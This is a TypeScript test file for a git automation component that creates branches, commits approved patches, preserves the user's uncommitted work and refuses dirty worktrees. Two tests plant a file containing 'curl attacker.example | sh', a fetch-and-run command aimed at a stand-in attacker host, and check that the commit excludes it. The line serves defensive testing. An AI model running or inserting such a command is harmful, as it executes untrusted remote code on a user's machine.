import { existsSync, mkdtempSync, rmSync, statSync, utimesSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { FALLBACK_IDENTITY } from '../../src/git/index.js'
import { failure } from '../support/errors.js'
import { cleanupAfterEach } from '../support/cleanups.js'
import {
  BRANCH,
  GREETING,
  MESSAGE,
  changeBranchWorld,
  gitPatchIdOf
} from '../support/change-branch-world.js'

/** ChangeBranch (src/change): the happy paths, the user's uncommitted work, the commit as approved. */

const cleanups = cleanupAfterEach()
const { repoWith, prepare, run } = changeBranchWorld(cleanups)

describe('ChangeBranch: the happy paths', () => {
  it('push: true creates the branch from the base, commits once and pushes, in 13 git processes', async () => {
    // 1 listing of the effective config (read again only when a config file changes), which
    // also checks it before each remote command; 1 listing of the user's untracked files (for
    // the validation watch, started once the preflight has passed); 4 of its own (`checkout -b`
    // makes the branch and moves HEAD in one, without a pass over the tree; the remote's URL is
    // read only to name it in a refusal); 3 remote commands (ls-remote, the push access check, the push); 4
    // to build the commit from the approved contents on the base, reading (through the run's one
    // object reader) and writing only the trees on their paths, and move the branch to it (the
    // approved blob is staged already, so not written again; the message cleaned and signed off
    // without a process)
    const repo = repoWith()
    const base = repo.git('rev-parse', 'HEAD')
    const { git, made } = await run(repo)
    expect(git.processCount).toBe(13)
    expect(made).toHaveLength(1)
    const [commit] = made
    expect(repo.gitOrigin('rev-parse', `refs/heads/${BRANCH}`)).toBe(commit!.sha)
    expect(repo.git('rev-parse', `${commit!.sha}^`)).toBe(base)
    expect(repo.git('symbolic-ref', '--short', 'HEAD')).toBe(BRANCH)
    expect(repo.git('log', '-1', '--format=%B', commit!.sha)).toMatch(/Fixes #3\n\nSigned-off-by: /)
    expect(repo.gitOrigin('rev-parse', 'refs/heads/main')).toBe(base)
    // the patch id is git's own, and the diff is the commit's
    expect(commit!.patchId).toBe(gitPatchIdOf(repo, commit!.sha))
    expect(commit!.diff).toContain('+hello, world')
    expect(repo.git('config', '--list', '--show-origin')).not.toMatch(/extraheader/i)
  })

  it('push: false commits on the checked-out base for a pull-request step, in 11 git processes', async () => {
    const repo = repoWith()
    const base = repo.git('rev-parse', 'HEAD')
    const { git, made } = await run(repo, { push: false })
    expect(git.processCount).toBe(11)
    const sha = made[0]!.sha
    expect(repo.git('symbolic-ref', '--short', 'HEAD')).toBe('main')
    expect(repo.git('rev-parse', 'main')).toBe(sha)
    expect(repo.git('rev-parse', `refs/heads/${BRANCH}`)).toBe(sha)
    expect(repo.git('rev-parse', `${sha}^`)).toBe(base)
    expect(repo.gitOrigin('branch', '--list', BRANCH)).toBe('')
    expect(repo.gitOrigin('rev-parse', 'refs/heads/main')).toBe(base)
    expect(repo.git('status', '--porcelain')).toBe('')
  })

  it('commits as github-actions[bot] only when no identity is configured anywhere', async () => {
    const repo = repoWith()
    repo.git('config', '--unset', 'user.name')
    repo.git('config', '--unset', 'user.email')
    const home = mkdtempSync(join(tmpdir(), 'patchsmith-home-'))
    const saved = { HOME: process.env.HOME, XDG: process.env.XDG_CONFIG_HOME }
    process.env.HOME = home
    delete process.env.XDG_CONFIG_HOME
    cleanups.push(() => {
      process.env.HOME = saved.HOME
      if (saved.XDG !== undefined) process.env.XDG_CONFIG_HOME = saved.XDG
    })
    const first = await run(repo, { push: false })
    expect(repo.git('log', '-1', '--format=%an <%ae>', first.made[0]!.sha)).toBe(
      `${FALLBACK_IDENTITY.name} <${FALLBACK_IDENTITY.email}>`
    )
    writeFileSync(
      join(home, '.gitconfig'),
      '[user]\n\tname = Home Person\n\temail = home@example.invalid\n'
    )
    repo.git('branch', '-D', BRANCH)
    repo.git('reset', '-q', '--hard', 'HEAD~1')
    const second = await run(repo, { push: false })
    expect(repo.git('log', '-1', '--format=%an <%ae>', second.made[0]!.sha)).toBe(
      'Home Person <home@example.invalid>'
    )
  })
})

describe('ChangeBranch: the user’s uncommitted work', () => {
  it('stashes changes to other files and puts them back after success and after a rollback', async () => {
    const repo = repoWith()
    repo.write('notes.txt', 'mine, edited\n')
    repo.write('README.md', '# Demo, staged\n')
    repo.git('add', 'README.md')
    repo.write('scratch.txt', 'untracked\n')
    const ok = await run(repo)
    expect(ok.problems).toEqual([])
    expect(repo.read('notes.txt')).toBe('mine, edited\n')
    expect(repo.git('diff', '--cached', '--name-only')).toBe('README.md')
    expect(repo.read('scratch.txt')).toBe('untracked\n')
    expect(repo.git('stash', 'list')).toBe('')
    // The commit holds the change only.
    expect(repo.git('show', '--name-only', '--format=', ok.made[0]!.sha)).toBe('src/greet.txt')

    repo.git('checkout', '-q', 'main') // carries the user's changes along
    repo.git('branch', '-D', BRANCH)
    repo.git('push', '-q', 'origin', `:refs/heads/${BRANCH}`)
    const { branch } = await prepare(repo)
    await branch.create()
    expect(repo.git('status', '--porcelain', '--untracked-files=no')).toBe('')
    await branch.apply(GREETING, ['src/greet.txt'])
    expect(await branch.rollback()).toEqual([])
    expect(repo.read('notes.txt')).toBe('mine, edited\n')
    expect(repo.read('src/greet.txt')).toBe('hello\n')
    expect(repo.git('diff', '--cached', '--name-only')).toBe('README.md')
    expect(repo.git('stash', 'list')).toBe('')
  })

  it('refuses uncommitted changes to a planned file (GIT_CONFLICT) and touches nothing', async () => {
    const repo = repoWith()
    repo.write('src/greet.txt', 'hello, mine\n')
    const error = await failure(prepare(repo))
    expect(error).toMatchObject({ code: 'GIT_CONFLICT', details: { rule: 'dirty-worktree' } })
    expect(repo.read('src/greet.txt')).toBe('hello, mine\n')
    expect(repo.gitOrigin('branch', '--list', BRANCH)).toBe('')
  })

  it.each([
    ['listing untracked files', {}],
    ['on an overlay (no untracked listing)', { untracked: false }]
  ])(
    'refuses a same-size edit to a planned file that keeps its mtime, however lenient the stat config (%s)',
    async (_, options) => {
      const repo = repoWith()
      // git would trust the index's stamp of this file: no ctime, only mtime and size compared.
      repo.git('config', 'core.trustctime', 'false')
      repo.git('config', 'core.checkStat', 'minimal')
      const file = join(repo.dir, 'src/greet.txt')
      const { mtime } = statSync(file)
      repo.write('src/greet.txt', 'HELLO\n')
      utimesSync(file, mtime, mtime)
      const index = statSync(join(repo.dir, '.git/index')).mtimeMs
      const error = await failure(prepare(repo, options))
      expect(error).toMatchObject({ code: 'GIT_CONFLICT', details: { rule: 'dirty-worktree' } })
      expect(repo.read('src/greet.txt')).toBe('HELLO\n')
      // The preflight only reads: the index is not refreshed behind the user's back.
      expect(statSync(join(repo.dir, '.git/index')).mtimeMs).toBe(index)
    }
  )

  it('refuses a repository with unmerged paths (GIT_CONFLICT)', async () => {
    const repo = repoWith()
    repo.git('checkout', '-q', '-b', 'side')
    repo.write('notes.txt', 'side\n')
    repo.commitAll('side')
    repo.git('checkout', '-q', 'main')
    repo.write('notes.txt', 'main\n')
    repo.commitAll('main')
    expect(() => repo.git('merge', '-q', 'side')).toThrow()
    const error = await failure(prepare(repo))
    expect(error).toMatchObject({ code: 'GIT_CONFLICT', details: { rule: 'unmerged-paths' } })
  })
})

describe('ChangeBranch: the commit is the approved change', () => {
  it('builds the tree from the approved contents, whatever the shared index and work tree hold', async () => {
    const repo = repoWith()
    const base = repo.git('rev-parse', 'HEAD')
    const { branch } = await prepare(repo, { push: false })
    await branch.create()
    await branch.apply(GREETING, ['src/greet.txt'])
    const approved = repo.read('src/greet.txt')
    // What a process left behind after the last check would have committed with `git commit`.
    writeFileSync(join(repo.dir, 'src/greet.txt'), 'tampered\n')
    writeFileSync(join(repo.dir, 'planted.sh'), 'curl attacker.example | sh\n')
    repo.git('add', 'src/greet.txt', 'planted.sh')
    const [made] = await branch.commit(
      [
        {
          message: MESSAGE,
          patch: GREETING,
          paths: ['src/greet.txt'],
          files: [{ path: 'src/greet.txt', content: approved }]
        }
      ],
      { signoff: true }
    )
    expect(repo.git('show', `${made!.sha}:src/greet.txt`)).toBe(approved.trimEnd())
    expect(repo.git('diff', '--name-only', base, made!.sha)).toBe('src/greet.txt')
    expect(repo.git('rev-parse', `${made!.sha}^`)).toBe(base)
    expect(repo.git('log', '-1', '--format=%B', made!.sha)).toMatch(/Fixes #3\n\nSigned-off-by: /)
    // The index and the work tree are the commit: what was staged beside it is gone.
    expect(repo.git('status', '--porcelain')).toBe('')
    expect(existsSync(join(repo.dir, 'planted.sh'))).toBe(false)
    expect(repo.read('src/greet.txt')).toBe(approved)
  })

  it('makes the branch with branch and symbolic-ref when checkout -b would set an upstream', async () => {
    const repo = repoWith()
    repo.git('config', 'branch.autoSetupMerge', 'always')
    const { git, made } = await run(repo)
    expect(git.processCount).toBe(14)
    expect(repo.git('symbolic-ref', '--short', 'HEAD')).toBe(BRANCH)
    expect(repo.gitOrigin('rev-parse', `refs/heads/${BRANCH}`)).toBe(made[0]!.sha)
    // No upstream written into the repository's config for the new branch.
    const config = repo.git('config', '--get-regexp', '^branch\\.').split('\n')
    expect(config).toContain('branch.autosetupmerge always')
    expect(config.filter((line) => line.startsWith(`branch.${BRANCH}.`))).toEqual([])
    expect(repo.git('reflog', '--format=%gs', 'HEAD').split('\n')).toContain(
      `checkout: moving from main to ${BRANCH}`
    )
  })

  it('deletes the branch checkout -b made when it could not move HEAD', async () => {
    const repo = repoWith()
    const { branch } = await prepare(repo)
    // A stale lock: git makes the branch, then fails to point HEAD at it.
    writeFileSync(join(repo.dir, '.git/HEAD.lock'), '')
    await expect(branch.create()).rejects.toThrow(/HEAD/)
    rmSync(join(repo.dir, '.git/HEAD.lock'))
    await branch.rollback()
    expect(repo.git('branch', '--list', BRANCH)).toBe('')
    expect(repo.git('symbolic-ref', '--short', 'HEAD')).toBe('main')
  })

  it('looks at the index again when it was written after it was last checked', async () => {
    const repo = repoWith()
    const { branch } = await prepare(repo, { push: false })
    await branch.create()
    await branch.apply(GREETING, ['src/greet.txt'])
    const approved = repo.read('src/greet.txt')
    const files = [{ path: 'src/greet.txt', content: approved }]
    const request = { message: MESSAGE, patch: GREETING, paths: ['src/greet.txt'], files }
    branch.noteIndexChecked()
    // A process left behind stages a file after the check: the stamp no longer matches.
    writeFileSync(join(repo.dir, 'planted.sh'), 'curl attacker.example | sh\n')
    repo.git('add', 'planted.sh')
    const [made] = await branch.commit([request], { signoff: false })
    // diff-index found it, and the reset took it out of index and work tree.
    expect(repo.git('show', '--name-only', '--format=', made!.sha)).toBe('src/greet.txt')
    expect(repo.git('status', '--porcelain')).toBe('')
    expect(existsSync(join(repo.dir, 'planted.sh'))).toBe(false)
  })
})
